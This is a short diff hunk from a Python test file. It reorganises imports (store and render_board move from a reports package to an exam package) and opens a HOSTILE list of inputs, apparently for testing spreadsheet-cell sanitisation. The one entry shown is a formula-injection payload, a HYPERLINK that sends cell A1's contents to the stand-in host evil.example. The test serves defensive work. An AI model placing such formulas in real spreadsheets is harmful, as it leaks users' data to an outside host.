@@ -22,14 +22,14 @@ from typer.testing import CliRunner
 from closeloop.bootstrap import App
 from closeloop.cli import app as cli_app
 from closeloop.cli.common import State
+from closeloop.exam import service as store
+from closeloop.exam.render import render_board
 from closeloop.models import grids, metadata
-from closeloop.reports import store
-from closeloop.reports.render import render_board
 from closeloop.web.app import ManualClock, create_app
 from closeloop.xlsxsafe import neutralise, safe_cell
 from tests.conftest import CONFIG
 from tests.report_data import REAL_NOW, step, submit, z
-from tests.test_exam_store import APRIL, V
+from tests.test_exam_service import APRIL, V
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1, "click me")',
